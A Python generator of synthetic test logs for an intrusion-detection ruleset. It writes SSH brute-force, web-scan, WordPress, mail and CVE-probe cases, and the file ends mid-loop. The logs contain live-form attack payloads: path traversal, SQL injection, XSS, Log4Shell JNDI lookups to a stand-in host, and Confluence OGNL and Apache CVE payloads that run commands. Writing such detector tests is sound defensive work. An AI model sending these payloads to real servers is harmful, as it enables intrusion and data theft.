#!/usr/bin/env python3
"""Generates Palisade's golden cases (test/golden/<case>/input.log + case.yaml).

Usage: python3 gen-cases.py [OUT_DIR] [CASE...]   (OUT_DIR defaults to test/golden)
expected.jsonl is not written here: run oracle.sh, which asks real CrowdSec.

Every actor uses documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24)
except the search-engine crawlers, which use addresses from Google's and Microsoft's
published crawler ranges. Deterministic: fixed seed, fixed base time.
"""
import datetime as dt
import os
import random
import sys

OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
BASE = dt.datetime(2026, 11, 20, 10, 0, 0, tzinfo=dt.timezone.utc)
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/126.0.0.0 Safari/537.36")
SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1")
EDGE = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0")
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
SITE = "https://www.example.org"


def ts(t):
    return BASE + dt.timedelta(seconds=t)


def clf_time(t):
    d = ts(t)
    return f"{d.day:02d}/{MONTHS[d.month - 1]}/{d.year}:{d.hour:02d}:{d.minute:02d}:{d.second:02d} +0000"


def syslog_time(t):
    d = ts(t)
    return f"{MONTHS[d.month - 1]} {d.day:2d} {d.hour:02d}:{d.minute:02d}:{d.second:02d}"


class Log:
    def __init__(self):
        self.rows = []  # (t, seq, line)

    def add(self, t, line):
        self.rows.append((t, len(self.rows), line))

    def http(self, ip, t, verb, path, status, ua, ref="-", size=None):
        size = size if size is not None else (512 if status >= 300 else 5120)
        self.add(t, f'{ip} - - [{clf_time(t)}] "{verb} {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"')

    def traefik(self, ip, t, verb, path, status, ua, ref="-"):
        n = len(self.rows) + 1
        self.add(t, f'{ip} - - [{clf_time(t)}] "{verb} {path} HTTP/1.1" {status} 19 "{ref}" "{ua}" '
                    f'{n} "web@docker" "http://172.18.0.3:80" 3ms')

    def sys(self, t, prog, pid, msg, host="srv1"):
        self.add(t, f"{syslog_time(t)} {host} {prog}[{pid}]: {msg}")

    def sys_nopid(self, t, prog, msg, host="srv1"):
        self.add(t, f"{syslog_time(t)} {host} {prog}: {msg}")

    def text(self):
        return "".join(line + "\n" for _, _, line in sorted(self.rows))


CASES = []


def case(name, typ, description, scenarios=None):
    def deco(fn):
        CASES.append((name, typ, description, scenarios, fn))
        return fn
    return deco


def write_case(name, typ, description, scenarios, log):
    d = os.path.join(OUT, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "input.log"), "w") as f:
        f.write(log.text())
    lines = [f"type: {typ}"]
    if typ in ("syslog", "journald"):
        lines.append("year: 2026")
    if scenarios:
        lines.append("scenarios:")
        lines += [f"  - {s}" for s in scenarios]
    lines.append("oracle: crowdsec-1.4.6")
    lines.append("description: |")
    lines += [f"  {l}" if l else "" for l in description.strip().splitlines()]
    with open(os.path.join(d, "case.yaml"), "w") as f:
        f.write("\n".join(lines) + "\n")


# ---------------------------------------------------------------- shared benign actors
def page_load(log, ip, t, ua, page, n_assets, rng, cold=True, ref=SITE + "/"):
    """A browser loading one page: the HTML, then its assets within ~2 s."""
    log.http(ip, t, "GET", page, 200, ua, ref)
    exts = ["css", "js", "png", "woff2", "svg", "webp", "jpg", "gif", "ico", "mp4"]
    for i in range(n_assets):
        ext = exts[i % len(exts)] if i % 7 else "js"
        path = f"/assets/{page.strip('/').replace('/', '-') or 'home'}/{i:03d}.{ext}" if i % 3 else f"/assets/common/{i:03d}.{ext}"
        st = 200 if cold else 304
        log.http(ip, t + 0.2 + rng.random() * 1.8, "GET", path, st, ua, SITE + page, size=20000 if st == 200 else 0)


def ssh_fail(log, t, ip, user, pid, port, invalid=False, pam=False, host="srv1"):
    if invalid:
        log.sys(t, "sshd", pid, f"Invalid user {user} from {ip} port {port}", host)
        log.sys(t + 0.5, "sshd", pid, f"Failed password for invalid user {user} from {ip} port {port} ssh2", host)
    else:
        if pam:
            log.sys(t, "sshd", pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                    f"ruser= rhost={ip}  user={user}", host)
        log.sys(t + 0.5, "sshd", pid, f"Failed password for {user} from {ip} port {port} ssh2", host)


def cron_noise(log, t0, t1, host="srv1"):
    pid = 5000
    for t in range(int(t0), int(t1), 300):
        pid += 1
        log.sys(t, "CRON", pid, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", host)
        log.sys(t + 1, "CRON", pid, "pam_unix(cron:session): session closed for user root", host)


# ---------------------------------------------------------------- SSH
@case("ssh-bf-fast", "syslog", """
203.0.113.10 guesses root's password 12 times in 24 s (one sshd line per try, as with
PAM quiet): palisade/ssh-bf overflows on the 6th held event, and palisade/ssh-slow-bf on
the 11th (12 events in 24 s barely leak at one a minute). 198.51.100.11 logs in with a key
and runs sudo: nothing.
""")
def ssh_bf_fast(log):
    log.sys(0, "sshd", 900, "Accepted publickey for deploy from 198.51.100.11 port 50022 ssh2: ED25519 SHA256:q1w2e3")
    log.sys(1, "sshd", 900, "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)")
    log.sys(40, "sudo", 901, "   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx")
    for i in range(12):
        ssh_fail(log, 60 + 2 * i, "203.0.113.10", "root", 1000 + i // 3, 41000 + i // 3)
    cron_noise(log, 0, 600)


@case("ssh-slow-bf", "syslog", """
198.51.100.20 tries one password every 20 s for 7 min (21 failures, users root and admin):
too slow for palisade/ssh-bf (leaks one per 10 s), but palisade/ssh-slow-bf gains two events
a minute net and overflows. 203.0.113.21 fails twice in an hour: nothing.
""")
def ssh_slow(log):
    for i in range(21):
        ssh_fail(log, 30 + 20 * i, "198.51.100.20", "root" if i % 2 else "admin", 2000 + i, 42000 + i)
    ssh_fail(log, 100, "203.0.113.21", "git", 2100, 43000)
    ssh_fail(log, 2500, "203.0.113.21", "git", 2101, 43001)
    cron_noise(log, 0, 3000)


@case("ssh-user-enum", "syslog", """
203.0.113.30 tries 10 different user names, one failure every 6 s (Invalid user + Failed
password for invalid user, 2 events per name): distinct users overflow
palisade/ssh-user-enum (capacity 5, leak 20 s). The 20 events in 54 s also overflow
palisade/ssh-bf (6 held) and palisade/ssh-slow-bf (11 held).
192.0.2.31 (an admin) fails three times on her own account, one every 2 min: no
enumeration, no brute force.
""")
def ssh_enum(log):
    users = ["admin", "oracle", "postgres", "ubuntu", "pi", "test", "guest", "ftpuser", "git", "support"]
    for i, u in enumerate(users):
        ssh_fail(log, 10 + 6 * i, "203.0.113.30", u, 3000 + i, 44000 + i, invalid=True)
    for i in range(3):
        ssh_fail(log, 5 + 120 * i, "192.0.2.31", "alice", 3100 + i, 45000 + i, pam=True)
    cron_noise(log, 0, 600)


@case("ssh-benign", "syslog", """
Must raise nothing. 198.51.100.40 (alice) mistypes her password twice (PAM line + 2 Failed
password = 3 events) then logs in; 198.51.100.41 logs in with a key; 192.0.2.42 runs an
Ansible play: 12 key logins in 2 min; a port scanner's banner grab from 203.0.113.43 makes
one "Connection closed ... [preauth]" line that is not a failed authentication; CRON and
sudo noise.
""")
def ssh_benign(log):
    log.sys(60, "sshd", 4000, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.40  user=alice")
    log.sys(60.5, "sshd", 4000, "Failed password for alice from 198.51.100.40 port 51000 ssh2")
    log.sys(66, "sshd", 4000, "Failed password for alice from 198.51.100.40 port 51000 ssh2")
    log.sys(72, "sshd", 4000, "Accepted password for alice from 198.51.100.40 port 51000 ssh2")
    log.sys(72.2, "sshd", 4000, "pam_unix(sshd:session): session opened for user alice(uid=1001) by (uid=0)")
    log.sys(200, "sshd", 4001, "Accepted publickey for bob from 198.51.100.41 port 52000 ssh2: ED25519 SHA256:z9y8x7")
    for i in range(12):
        log.sys(300 + 10 * i, "sshd", 4100 + i, f"Accepted publickey for ansible from 192.0.2.42 port {53000 + i} ssh2: ED25519 SHA256:a1b2c3")
        log.sys(305 + 10 * i, "sshd", 4100 + i, f"Received disconnect from 192.0.2.42 port {53000 + i}:11: disconnected by user")
    log.sys(500, "sshd", 4200, "Connection closed by 203.0.113.43 port 54000 [preauth]")
    log.sys(520, "sudo", 4300, "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update")
    cron_noise(log, 0, 1200)


# ---------------------------------------------------------------- HTTP scans
@case("http-probing", "nginx", """
203.0.113.50 looks for 25 admin panels and tools (dirb-style, browser User-Agent), all
404, in 10 s: more than 10 distinct non-static 404s -> palisade/http-probing.
198.51.100.51 browses normally and hits 3 non-static 404s (stale links): nothing.
""")
def http_probing(log):
    paths = ["/admin/", "/administrator/", "/phpmyadmin/", "/pma/", "/manager/html", "/console/",
             "/solr/", "/jenkins/login", "/backup/", "/old/", "/test/", "/api/v1/debug", "/cgi-bin/test-cgi",
             "/server-info", "/adminer/", "/webadmin/", "/panel/", "/cpanel", "/login.aspx", "/user/login",
             "/install/", "/setup/", "/demo/", "/dev/", "/staging/"]
    for i, p in enumerate(paths):
        log.http("203.0.113.50", 5 + i * 0.4, "GET", p, 404, CHROME)
    rng = random.Random(5)
    page_load(log, "198.51.100.51", 0, FIREFOX, "/", 30, rng)
    for i, p in enumerate(["/blog/2019/old-post", "/events/2020", "/docs/v1/setup"]):
        log.http("198.51.100.51", 20 + 15 * i, "GET", p, 404, FIREFOX, SITE + "/")


@case("http-crawl", "nginx", """
198.51.100.60 scrapes /product/1..200 at 8 pages/s (200 OK): non-static distinct paths
fill palisade/http-crawl-non-statics (capacity 60, leaks 2/s) after about 10 s.
8 req/s stays under palisade/http-flood's 10/s drain. 203.0.113.61 reads 12 product pages
in 2 min: nothing.
""")
def http_crawl(log):
    for i in range(200):
        log.http("198.51.100.60", 10 + i / 8, "GET", f"/product/{i + 1}", 200, CHROME)
    for i in range(12):
        log.http("203.0.113.61", 5 + i * 10, "GET", f"/product/{(i * 37) % 200 + 1}", 200, SAFARI, SITE + "/")


@case("http-flood", "nginx", """
203.0.113.70 requests GET / 40 times a second for 15 s (600 requests): net +30/s fills
palisade/http-flood (capacity 300, drains 10/s) after about 10 s. One path only, so
palisade/http-crawl-non-statics (distinct paths) stays at 1.
""")
def http_flood(log):
    for i in range(600):
        log.http("203.0.113.70", 20 + i / 40, "GET", "/", 200, CHROME)
    rng = random.Random(7)
    page_load(log, "198.51.100.71", 5, EDGE, "/", 40, rng)


@case("http-flood-static", "nginx", """
Loads only palisade/http-flood (`scenarios:`). 198.51.100.72 hot-links one image 30 times
a second for 20 s (600 requests of a static resource): the flood scenario counts static
resources too, net +20/s fills capacity 300 after about 15 s.
""", scenarios=["palisade/http-flood"])
def http_flood_static(log):
    for i in range(600):
        log.http("198.51.100.72", 10 + i / 30, "GET", "/media/banner.jpg", 200, "Mozilla/5.0 (compatible; Embedly/0.2)")


@case("http-bad-user-agent", "nginx", """
Offensive tools announce themselves: sqlmap (203.0.113.80), Nikto (203.0.113.81), Nuclei
(203.0.113.82), zgrab (203.0.113.83), WPScan (203.0.113.84) each send 2-3 requests ->
palisade/http-bad-user-agent. masscan (203.0.113.85) sends one request: capacity 1 needs two.
Generic clients that monitoring and integrations use (curl, Wget, python-requests,
Go-http-client, okhttp, libwww-perl, UptimeRobot, Googlebot) send 3 requests each: nothing.
""")
def http_bad_ua(log):
    tools = [
        ("203.0.113.80", "sqlmap/1.8.4#stable (https://sqlmap.org)", ["/item.php?id=1", "/item.php?id=2"]),
        ("203.0.113.81", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", ["/", "/index.html", "/robots.txt"]),
        ("203.0.113.82", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", ["/", "/about"]),
        ("203.0.113.83", "Mozilla/5.0 zgrab/0.x", ["/", "/"]),
        ("203.0.113.84", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", ["/", "/readme.html"]),
        ("203.0.113.85", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", ["/"]),
    ]
    for n, (ip, ua, paths) in enumerate(tools):
        for i, p in enumerate(paths):
            log.http(ip, 10 * n + 2 * i, "GET", p, 200, ua)
    benign = [
        ("192.0.2.90", "curl/8.5.0"), ("192.0.2.91", "Wget/1.21.4"),
        ("192.0.2.92", "python-requests/2.32.3"), ("192.0.2.93", "Go-http-client/1.1"),
        ("192.0.2.94", "okhttp/4.12.0"), ("192.0.2.95", "libwww-perl/6.77"),
        ("192.0.2.96", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
        ("66.249.66.1", GOOGLEBOT),
    ]
    for n, (ip, ua) in enumerate(benign):
        for i in range(3):
            log.http(ip, 5 + 7 * n + 3 * i, "GET", "/" if i == 0 else f"/page-{i}", 200, ua)


@case("http-path-traversal", "nginx", """
203.0.113.90 sends 6 distinct traversal/LFI payloads (raw ../, %2f- and double-encoded,
overlong UTF-8, /etc/passwd in a parameter) in 12 s -> palisade/http-path-traversal
(capacity 1, distinct paths). 198.51.100.91 downloads files with ordinary parameters: nothing.
""")
def http_traversal(log):
    payloads = [
        ("/../../../../etc/passwd", 400),
        ("/download.php?file=../../../../etc/passwd", 200),
        ("/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd", 200),
        ("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow", 404),
        ("/index.php?page=..%252f..%252f..%252fetc%252fpasswd", 200),
        ("/img.php?f=..%c0%af..%c0%af..%c0%afwindows/win.ini", 200),
    ]
    for i, (p, st) in enumerate(payloads):
        log.http("203.0.113.90", 10 + 2 * i, "GET", p, st, FIREFOX)
    for i, f in enumerate(["report-2026.pdf", "invoice_114.pdf", "brochure.pdf", "price-list.xlsx"]):
        log.http("198.51.100.91", 5 + 9 * i, "GET", f"/download.php?file={f}", 200, CHROME, SITE + "/downloads")


@case("http-sqli-probing", "nginx", """
198.51.100.100 runs sqlmap-style payloads with a browser User-Agent: 8 distinct injected
query strings in 8 s (UNION SELECT, time-based SLEEP, boolean tautologies, ORDER BY
probing, error-based EXTRACTVALUE) -> palisade/http-sqli-probing (capacity 4, distinct).
203.0.113.102 sends 5 payloads whose query string holds an invalid escape (%zz):
QueryUnescape returns its input unchanged on invalid input, and the raw
union/**/select still matches -> palisade/http-sqli-probing.
203.0.113.101 searches the shop for "union select" and "O'Reilly" and browses: 1 matching
query string, nothing.
""")
def http_sqli(log):
    payloads = [
        "id=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--%20-",
        "id=1%27%20AND%20SLEEP(5)--%20-",
        "id=1%20AND%201=1",
        "id=1%27%20OR%20%271%27=%271",
        "id=1)%20ORDER%20BY%201--%20-",
        "id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
        "id=-1%20UNION%20SELECT%201,group_concat(table_name),3%20FROM%20information_schema.tables--",
        "id=1;WAITFOR%20DELAY%20%270:0:5%27--",
    ]
    for i, p in enumerate(payloads):
        log.http("198.51.100.100", 10 + i, "GET", f"/product.php?{p}", 200 if i % 2 else 500, CHROME)
    for i in range(5):
        log.http("203.0.113.102", 30 + i, "GET", f"/list.php?sort=%zz&id={i}/**/union/**/select/**/1,2,{i}--", 200, CHROME)
    for i, q in enumerate(["union+select", "O%27Reilly+books", "select+a+gift", "sql+for+beginners"]):
        log.http("203.0.113.101", 3 + 10 * i, "GET", f"/search?q={q}", 200, SAFARI, SITE + "/")


@case("http-xss-probing", "nginx", """
203.0.113.110 tries 6 distinct XSS payloads in the q parameter in 12 s (script tags,
event handlers, svg onload, javascript: URL, breakout with \"><iframe) ->
palisade/http-xss-probing (capacity 4, distinct). 198.51.100.111 searches for
"javascript: the good parts" and "<b> tag": nothing.
""")
def http_xss(log):
    payloads = [
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E",
        "q=%3Csvg%2Fonload%3Dalert(1)%3E",
        "q=javascript%3Aalert(document.cookie)",
        "q=%27%3E%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
        "q=%3CScRiPt%3Eprompt(1)%3C%2FsCrIpT%3E",
    ]
    for i, p in enumerate(payloads):
        log.http("203.0.113.110", 10 + 2 * i, "GET", f"/search?{p}", 200, FIREFOX)
    for i, q in enumerate(["javascript%3A+the+good+parts", "%3Cb%3E+tag", "confirm+order+status"]):
        log.http("198.51.100.111", 4 + 8 * i, "GET", f"/search?q={q}", 200, EDGE, SITE + "/")


@case("http-sensitive-files", "nginx", """
198.51.100.120 asks for /.env, /.git/config, /backup.zip, /.aws/credentials, /db.sql and
/.DS_Store in 6 s -> palisade/http-sensitive-files (capacity 3, distinct). 203.0.113.121
fetches /.well-known/security.txt, /robots.txt, /sitemap.xml and /envelope.html: nothing.
""")
def http_sensitive(log):
    for i, p in enumerate(["/.env", "/.git/config", "/backup.zip", "/.aws/credentials", "/db.sql", "/.DS_Store"]):
        log.http("198.51.100.120", 10 + i, "GET", p, 404, CHROME)
    for i, p in enumerate(["/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/envelope.html"]):
        log.http("203.0.113.121", 5 + 3 * i, "GET", p, 200, CHROME)


@case("http-backdoor-probing", "nginx", """
203.0.113.130 looks for web shells: /wso.php, /c99.php, /shell.php, /alfa.php (404) in 4 s
-> palisade/http-backdoor-probing (2 distinct names). 198.51.100.131 posts to /upload.php
and opens /admin.php on a site that has them: nothing.
""")
def http_backdoor(log):
    for i, p in enumerate(["/wso.php", "/wp-content/uploads/c99.php", "/shell.php", "/alfa.php"]):
        log.http("203.0.113.130", 10 + i, "GET", p, 404, CHROME)
    log.http("198.51.100.131", 5, "GET", "/admin.php", 200, FIREFOX, SITE + "/")
    log.http("198.51.100.131", 9, "POST", "/upload.php", 200, FIREFOX, SITE + "/admin.php")
    log.http("198.51.100.131", 15, "GET", "/admin.php?tab=files", 200, FIREFOX, SITE + "/admin.php")


# ---------------------------------------------------------------- WordPress
@case("wordpress-bf", "nginx", """
198.51.100.140 posts wrong passwords to /wp-login.php 10 times in 30 s (200 = form shown
again) -> palisade/wordpress-login-bf (capacity 5, leak 30 s). 203.0.113.141 posts to
/xmlrpc.php 15 times in 60 s -> palisade/wordpress-xmlrpc-bf (capacity 10, leak 30 s).
192.0.2.142, the site's editor, fails once and logs in (302): nothing.
""")
def wp_bf(log):
    for i in range(10):
        log.http("198.51.100.140", 10 + 3 * i, "POST", "/wp-login.php", 200, CHROME, SITE + "/wp-login.php")
    for i in range(15):
        log.http("203.0.113.141", 5 + 4 * i, "POST", "/xmlrpc.php", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0")
    log.http("192.0.2.142", 20, "GET", "/wp-login.php", 200, SAFARI)
    log.http("192.0.2.142", 30, "POST", "/wp-login.php", 200, SAFARI, SITE + "/wp-login.php")
    log.http("192.0.2.142", 41, "POST", "/wp-login.php", 302, SAFARI, SITE + "/wp-login.php")
    log.http("192.0.2.142", 42, "GET", "/wp-admin/", 200, SAFARI, SITE + "/wp-login.php")


@case("wordpress-user-enum", "nginx", """
203.0.113.150 walks /?author=1 .. /?author=8 in 8 s (301 to /author/<login>/) ->
palisade/wordpress-user-enum (capacity 3, distinct). 198.51.100.151 clicks one author link
on a plain-permalink site: nothing.
""")
def wp_enum(log):
    for i in range(8):
        log.http("203.0.113.150", 10 + i, "GET", f"/?author={i + 1}", 301, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
    log.http("198.51.100.151", 5, "GET", "/?p=42", 200, FIREFOX, "https://www.example.net/")
    log.http("198.51.100.151", 25, "GET", "/?author=2", 200, FIREFOX, SITE + "/?p=42")
    log.http("198.51.100.151", 40, "GET", "/?p=17", 200, FIREFOX, SITE + "/?author=2")


@case("wordpress-scan", "nginx", """
198.51.100.160 hunts vulnerable plugins: 8 plugin readme.txt files and wp-*.php scripts
answered 404 in 8 s -> palisade/wordpress-scan (capacity 5, distinct). 203.0.113.161 asks
for 5 wp-config.php backup variants -> palisade/wordpress-config-probe (2 distinct).
192.0.2.162 loads a page whose removed plugin's CSS and JS 404: static, nothing.
""")
def wp_scan(log):
    paths = ["/wp-content/plugins/revslider/readme.txt", "/wp-content/plugins/wp-file-manager/readme.txt",
             "/wp-content/plugins/duplicator/readme.txt", "/wp-content/plugins/contact-form-7/readme.txt",
             "/wp-content/plugins/elementor/changelog.txt", "/wp-admin/install.php", "/wp-admin/setup-config.php",
             "/wp-content/plugins/wp-statistics/readme.txt"]
    for i, p in enumerate(paths):
        log.http("198.51.100.160", 10 + i, "GET", p, 404, CHROME)
    for i, p in enumerate(["/wp-config.php.bak", "/wp-config.php~", "/wp-config.old", "/.wp-config.php.swp", "/wp-config.txt"]):
        log.http("203.0.113.161", 20 + i, "GET", p, 404, FIREFOX)
    log.http("192.0.2.162", 5, "GET", "/", 200, SAFARI)
    for i, p in enumerate(["/wp-content/plugins/old-slider/css/slider.css", "/wp-content/plugins/old-slider/js/slider.js",
                           "/wp-content/plugins/old-slider/img/arrow.png"]):
        log.http("192.0.2.162", 5.5 + i * 0.1, "GET", p, 404, SAFARI, SITE + "/")


# ---------------------------------------------------------------- login brute force
@case("http-login-bf", "nginx", """
198.51.100.170 posts 15 wrong credentials to /api/login (401) in 15 s, and 203.0.113.171
guesses HTTP basic-auth on GET /admin/login (401) 14 times in 14 s -> palisade/http-login-bf
(capacity 10, leak 10 s) for both. 192.0.2.172 mistypes twice (2 x 401) then signs in; a
single-page app at 192.0.2.173 fires 6 parallel API calls that all 401 when its session
expires, then refreshes its token: nothing.
""")
def http_login(log):
    for i in range(15):
        log.http("198.51.100.170", 10 + i, "POST", "/api/login", 401, "python-requests/2.31.0")
    for i in range(14):
        log.http("203.0.113.171", 12 + i, "GET", "/admin/login", 401, "Mozilla/4.0 (compatible; MSIE 8.0)")
    for i, st in enumerate([401, 401, 200]):
        log.http("192.0.2.172", 20 + 8 * i, "POST", "/api/login", st, CHROME, SITE + "/login")
    for i, ep in enumerate(["cart", "profile", "orders", "notifications", "wishlist", "recommendations"]):
        log.http("192.0.2.173", 40 + 0.05 * i, "POST", f"/api/graphql/{ep}", 401, EDGE, SITE + "/account")
    log.http("192.0.2.173", 40.5, "POST", "/api/token/refresh", 200, EDGE, SITE + "/account")


# ---------------------------------------------------------------- mail
@case("mail-bf", "syslog", """
203.0.113.180 guesses SMTP AUTH passwords on the submission port: 10 "SASL LOGIN
authentication failed" in 90 s -> palisade/postfix-sasl-bf (capacity 5, leak 1 min).
198.51.100.181 guesses IMAP passwords: 8 failed logins in 40 s, each logged by the auth
worker and the login process -> palisade/dovecot-auth-bf. 192.0.2.182 mistypes its IMAP
password twice then logs in; 192.0.2.183's phone has a stale SMTP password and fails once
every 10 minutes: nothing.
""")
def mail(log):
    for i in range(10):
        log.sys(10 + 9 * i, "postfix/submission/smtpd", 7000 + i, "warning: unknown[203.0.113.180]: SASL LOGIN authentication failed: UGFzc3dvcmQ6")
        log.sys(10.5 + 9 * i, "postfix/submission/smtpd", 7000 + i, "disconnect from unknown[203.0.113.180] ehlo=1 auth=0/1 commands=1/2")
    for i in range(8):
        u = ["admin", "info", "sales", "office"][i % 4]
        log.sys_nopid(20 + 5 * i, "dovecot", f"auth-worker(8100): pam({u},198.51.100.181,<Xy{i}AbCdEf>): pam_authenticate() failed: Authentication failure (password mismatch?)")
        log.sys_nopid(22 + 5 * i, "dovecot", f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{u}>, method=PLAIN, rip=198.51.100.181, lip=192.0.2.25, TLS, session=<Xy{i}AbCdEf>")
    for i in range(2):
        log.sys_nopid(100 + 10 * i, "dovecot", f"auth-worker(8100): pam(carol,192.0.2.182,<Qw{i}): pam_authenticate() failed: Authentication failure (password mismatch?)")
        log.sys_nopid(102 + 10 * i, "dovecot", f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<carol>, method=PLAIN, rip=192.0.2.182, lip=192.0.2.25, TLS, session=<Qw{i}>")
    log.sys_nopid(130, "dovecot", "imap-login: Login: user=<carol>, method=PLAIN, rip=192.0.2.182, lip=192.0.2.25, mpid=8200, TLS, session=<Qw9>")
    for i in range(4):
        log.sys(60 + 600 * i, "postfix/submission/smtpd", 7500 + i, "warning: phone.example.net[192.0.2.183]: SASL PLAIN authentication failed: authentication failure")
    log.sys(70, "postfix/smtpd", 7600, "connect from mail.example.com[192.0.2.184]")
    log.sys(71, "postfix/smtpd", 7600, "disconnect from mail.example.com[192.0.2.184] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 commands=7")


# ---------------------------------------------------------------- CVE triggers
@case("cve-probes", "nginx", """
One request (or two) per CVE, each from its own address; each trips its trigger once
(blackhole 5 min):
- log4shell: 203.0.113.200 (${jndi: in the User-Agent), 203.0.113.201 (percent-encoded
  ${${lower:j}ndi: in the query), 203.0.113.202 (${${::-j}${::-n}${::-d}${::-i}: in the
  Referer), 203.0.113.203 (${jndi: after an invalid %zz escape in the query);
- Spring4Shell class.module.classLoader: 198.51.100.210;
- F5 BIG-IP /tmui/login.jsp/..;/: 198.51.100.230;
- Fortinet /remote/fgt_lang?lang=/../../: 203.0.113.240;
- PHPUnit eval-stdin.php: 203.0.113.250 (two paths, one alert: blackhole).
192.0.2.205 sends template-looking but harmless URLs (${price} in a query, a class
parameter): nothing.
""")
def cve_nginx(log):
    log.http("203.0.113.200", 10, "GET", "/", 200, "${jndi:ldap://198.51.100.9:1389/Exploit}")
    log.http("203.0.113.201", 12, "GET", "/?x=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://198.51.100.9/a%7D", 200, CHROME)
    log.http("203.0.113.202", 14, "GET", "/", 200, FIREFOX, "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.9/a}")
    log.http("203.0.113.203", 16, "GET", "/api?q=%zz${jndi:dns://198.51.100.9/a}", 400, CHROME)
    log.http("198.51.100.210", 20, "GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", 200, CHROME)
    log.http("198.51.100.230", 30, "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404, "curl/7.68.0")
    log.http("203.0.113.240", 40, "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, "python-requests/2.25.1")
    log.http("203.0.113.250", 50, "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    log.http("203.0.113.250", 51, "POST", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
    log.http("192.0.2.205", 5, "GET", "/shop?template=%24%7Bprice%7D&class=premium", 200, CHROME)
    log.http("192.0.2.205", 25, "GET", "/docs/spring/class-loading", 200, CHROME)


@case("cve-probes-apache", "apache2", """
Apache combined format. 203.0.113.220 tries CVE-2021-41773 (/cgi-bin/.%2e/.%2e/...) and
203.0.113.221 CVE-2021-42013 (%%32%65 double encoding) -> palisade/cve-2021-41773-apache-traversal.
198.51.100.250 sends the Confluence OGNL payload (CVE-2022-26134) percent-encoded in the
path -> palisade/cve-2022-26134-confluence. 192.0.2.251 browses normally: nothing.
""")
def cve_apache(log):
    log.http("203.0.113.220", 10, "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/7.79.1")
    log.http("203.0.113.221", 20, "POST", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", 400, "curl/7.79.1")
    log.http("198.51.100.250", 30, "GET",
             "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/",
             302, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
    rng = random.Random(11)
    page_load(log, "192.0.2.251", 5, CHROME, "/", 25, rng)
    log.http("192.0.2.251", 40, "GET", "/cgi-bin/search.cgi?q=apache+2.4.49", 200, CHROME, SITE + "/")


# ---------------------------------------------------------------- Traefik
@case("traefik-scan", "traefik", """
Traefik common log format (no Meta.http_verb/user_agent from the parser: the scenarios
read evt.Parsed.verb and evt.Parsed.http_user_agent). 203.0.113.230 runs Nikto: its User-Agent
and 14 distinct 404s -> palisade/http-bad-user-agent and palisade/http-probing.
198.51.100.231 browses: nothing.
""")
def traefik_scan(log):
    ua = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"
    for i in range(14):
